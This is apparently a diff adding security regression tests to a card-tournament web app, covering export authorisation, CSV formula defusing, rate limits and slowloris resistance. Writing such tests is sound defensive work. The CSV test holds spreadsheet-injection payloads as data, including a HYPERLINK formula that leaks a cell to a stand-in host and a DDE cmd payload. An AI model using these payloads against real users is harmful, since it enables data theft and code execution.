@@ -405,3 +405,131 @@ def test_pages_are_csp_clean():
     csp = r.headers["content-security-policy"]
     assert "script-src 'self'" in csp and "style-src 'self'" in csp and "frame-ancestors 'none'" in csp
     assert r.headers["x-content-type-options"] == "nosniff"
+
+
+def test_an_export_never_opens_another_tournaments_table(client, cup):
+    """Attacker's pass (merged): ``export/sheets.pdf?table=`` of a *published* tournament named a table
+    of an unpublished one and got its Tischzettel; the table must belong to the tournament in the path."""
+    H = cup["H"]
+    t = client.post(f"{API}/tournaments", headers=H, json={"name": "Open", "game": "doppelkopf", "rounds": 1}).json()
+    pub = t["tournament"]["id"]
+    client.post(f"{API}/tournaments/{pub}/players", headers=H, json=[{"name": f"Q{i}"} for i in range(4)])
+    own = client.post(f"{API}/tournaments/{pub}/rounds", headers=H, json={"seed": "s"}).json()["tables"][0]["id"]
+    assert client.post(f"{API}/tournaments/{pub}/publish", headers=H, json={}).status_code == 200
+    assert client.get(f"{API}/tables/{cup['table']}").status_code == 403  # the cup is not published
+    r = client.get(f"{API}/tournaments/{pub}/export/sheets.pdf", params={"table": cup["table"]})
+    assert r.status_code == 404, r.status_code
+    assert client.get(f"{API}/tournaments/{pub}/export/sheets.pdf", params={"table": own}).status_code == 200
+
+
+def test_an_exported_csv_runs_no_formula(client, cup):
+    """Attacker's pass (merged): a player registered as ``=HYPERLINK(...)`` (names are often pasted from
+    a sign-up form) came out of ranking.csv as a live spreadsheet formula; text cells are defused."""
+    H = cup["H"]
+    t = client.post(f"{API}/tournaments", headers=H, json={"name": "Csv", "game": "doppelkopf", "rounds": 1}).json()
+    tid = t["tournament"]["id"]
+    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"klick")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
+    players = [{"name": n, "club": "=1+1"} for n in evil]
+    assert client.post(f"{API}/tournaments/{tid}/players", headers=H, json=players).status_code == 201
+    text = client.get(f"{API}/tournaments/{tid}/export/ranking.csv", headers=H).text
+    import csv as _csv
+    import io
+    cells = [c for row in _csv.reader(io.StringIO(text)) for c in row]
+    assert not any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())
+                   for c in cells), cells
+    assert "'" + evil[0] in cells and "'=1+1" in cells
+
+
+def test_exports_are_rate_limited_and_bounded_at_once(tmp_path):
+    """Attacker's pass (merged): a published cup's sheets.pdf (500 tables) took 8 s of CPU per request,
+    without a login and without a limit; a few addresses asking again and again took the threads and
+    the CPU the table server's games run on. Exports are limited per address (429) and in number at
+    once on the whole server (503)."""
+    c = _app_with_rates(tmp_path, export_rate=3, export_slots=1)
+    H = login(c)
+    tid = c.post(f"{API}/tournaments", headers=H, json={"name": "Pub", "game": "doppelkopf"}).json()["tournament"]["id"]
+    c.post(f"{API}/tournaments/{tid}/publish", headers=H, json={})
+    codes = [c.get(f"{API}/tournaments/{tid}/export/ranking.csv").status_code for _ in range(5)]
+    assert codes == [200, 200, 200, 429, 429], codes
+    # an unknown export costs nothing and counts nothing
+    assert c.get(f"{API}/tournaments/{tid}/export/nothing.pdf").status_code == 404
+
+    router = make_router(c.app.state.scorekeeper, export_rate=100, export_slots=1)
+    app = FastAPI()
+    app.include_router(router)
+    c = TestClient(app)
+    route = next(r for r in router.routes if r.path.endswith("/export/{name}"))
+    sem = next(cell.cell_contents for cell in route.endpoint.__closure__
+               if hasattr(cell.cell_contents, "acquire"))
+    assert sem.acquire(blocking=False)  # another export is being made
+    try:
+        r = c.get(f"{API}/tournaments/{tid}/export/ranking.csv")
+        assert r.status_code == 503, r.text
+    finally:
+        sem.release()
+    assert c.get(f"{API}/tournaments/{tid}/export/ranking.csv").status_code == 200
+
+
+@pytest.mark.parametrize("concurrency", [1, 3])
+def test_requests_are_handled_a_few_at_a_time(tmp_path, concurrency):
+    """Attacker's pass (merged): a published big cup's public reads (``GET /tournaments/{id}``, rankings,
+    form) cost 0.3-1 s of CPU each; forty in parallel took every thread and the interpreter from the
+    table server's games. A router handles at most ``concurrency`` requests at once; the rest wait."""
+    import threading
+    import time
+
+    import httpx
+
+    store = create_app(f"sqlite:///{tmp_path / 'g.sqlite3'}").state.scorekeeper
+    router = make_router(store, concurrency=concurrency)
+    app = FastAPI()
+    app.include_router(router)
+    lock, now, peak = threading.Lock(), [0], [0]
+    real = store.tournament
+
+    def slow(*a, **k):
+        with lock:
+            now[0] += 1
+            peak[0] = max(peak[0], now[0])
+        time.sleep(0.05)
+        with lock:
+            now[0] -= 1
+        return real(*a, **k)
+
+    store.tournament = slow  # type: ignore[method-assign]
+
+    async def many():
+        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
+            return await asyncio.gather(*(c.get(f"{API}/tournaments/1/form") for _ in range(12)))
+
+    answers = asyncio.run(many())
+    assert all(r.status_code == 404 for r in answers), [r.status_code for r in answers]
+    assert 1 <= peak[0] <= concurrency, peak[0]
+
+
+def test_a_slow_body_holds_no_place_of_the_request_bound(tmp_path):
+    """The bound on requests at once must not be a new slowloris: a login whose body arrives a byte at a
+    time (here: never) holds no place, so reads still get through."""
+    import httpx
+
+    store = create_app(f"sqlite:///{tmp_path / 's.sqlite3'}").state.scorekeeper
+    app = FastAPI()
+    app.include_router(make_router(store, concurrency=1))
+
+    async def scenario():
+        never = asyncio.Event()
+
+        async def body():
+            yield b'{"name": '
+            await never.wait()
+            yield b'"x"}'
+
+        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
+            stuck = [asyncio.create_task(c.post(f"{API}/login", content=body())) for _ in range(3)]
+            await asyncio.sleep(0.2)
+            r = await asyncio.wait_for(c.get(f"{API}/tournaments/1/form"), 10)
+            never.set()
+            await asyncio.gather(*stuck)
+            return r.status_code
+
+    assert asyncio.run(scenario()) == 404
